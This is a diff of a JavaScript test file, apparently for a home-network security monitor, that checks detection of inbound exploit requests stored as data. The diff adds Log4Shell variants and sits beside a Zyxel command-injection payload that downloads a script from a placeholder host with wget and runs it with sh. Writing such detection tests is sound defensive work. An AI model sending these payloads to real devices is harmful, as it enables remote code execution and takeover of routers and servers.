@@ -185,6 +185,8 @@ describe('inbound exploits (as data, each with its CVE)', () => {
     ['exploits.http.zyxel-viewlog', { method: 'POST', uri: '/cgi-bin/ViewLog.asp', body: 'remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://1.2.3.4/x;sh+x%3b%23' }],
     ['exploits.http.dlink-hnap', { method: 'POST', uri: '/HNAP1/' }],
     ['exploits.http.log4shell', { uri: '/?x=${jndi:ldap://1.2.3.4:1389/a}' }],
+    ['exploits.http.log4shell-body', { method: 'POST', uri: '/login', body: 'uname=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%3A1389%2Fa%7D&password=' }],
+    ['exploits.http.log4shell-user-agent', { user_agent: '${${lower:j}ndi:ldap://1.2.3.4/a}' }],
   ];
   for (const [id, o] of cases) {
     it(`${id}: medium on the device attacked, with close-port-forward advice`, () => {
